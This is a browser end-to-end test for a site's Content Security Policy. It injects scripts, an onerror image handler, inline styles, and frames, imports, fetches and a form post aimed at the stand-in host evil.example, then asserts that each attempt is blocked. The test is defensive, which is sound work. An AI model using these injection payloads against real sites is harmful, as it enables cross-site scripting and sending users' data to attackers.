import { expect, settled, test, visit } from './support/visitor.ts';

test.use({ remembers: settled, expectedErrors: /Content Security Policy|violates|Refused|Trusted/ });

test('scripts, styles, frames, addresses and forms of others are forbidden', async ({ page }) => {
  const violated = new Set<string>();
  await page.exposeFunction('report', (directive: string) => void violated.add(directive));
  await page.addInitScript(() => {
    const { report } = globalThis as unknown as { report: (directive: string) => void };
    addEventListener('securitypolicyviolation', ({ effectiveDirective }) => report(effectiveDirective));
  });
  await visit(page, '/contact');
  await page.evaluate(async () => {
    /** Some of it throws besides. */
    const attempt = async (deed: () => unknown) => {
      try {
        await deed();
      } catch (error) {
        console.error(error);
      }
    };
    const add = (tag: string, attributes: Record<string, string>, text = '') => {
      const element = Object.assign(document.createElement(tag), { textContent: text });
      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
      document.body.append(element);
      return element;
    };
    await attempt(() => add('script', {}, 'globalThis.injected = "script"'));
    await attempt(() => add('img', { src: 'x:', onerror: 'globalThis.injected = "handler"' }));
    await attempt(() => document.body.insertAdjacentHTML('beforeend', '<b>Written by an attacker</b>'));
    add('style', {}, 'body { opacity: 0 }');
    add('p', { style: 'color: red' }, 'styled');
    add('iframe', { src: 'https://evil.example/' });
    add('img', { src: 'https://evil.example/x.png' });
    add('base', { href: 'https://evil.example/' });
    const address = 'https://evil.example/x.js';
    await import(address).catch(() => undefined);
    await fetch('https://evil.example/').catch(() => undefined);
    (add('form', { action: 'https://evil.example/', method: 'post' }) as HTMLFormElement).submit();
  });
  await expect
    .poll(() => [...violated].toSorted((a, b) => a.localeCompare(b)))
    .toEqual([
      'base-uri',
      'connect-src',
      'form-action',
      'frame-src',
      'img-src',
      'require-trusted-types-for',
      'script-src-elem',
      'style-src-attr',
      'style-src-elem',
    ]);
  expect(await page.evaluate(() => document.body.textContent)).not.toContain('Written by an attacker');
  expect(await page.evaluate(() => 'injected' in globalThis)).toBe(false);
  expect(await page.evaluate(() => location.pathname)).toBe('/contact');
});
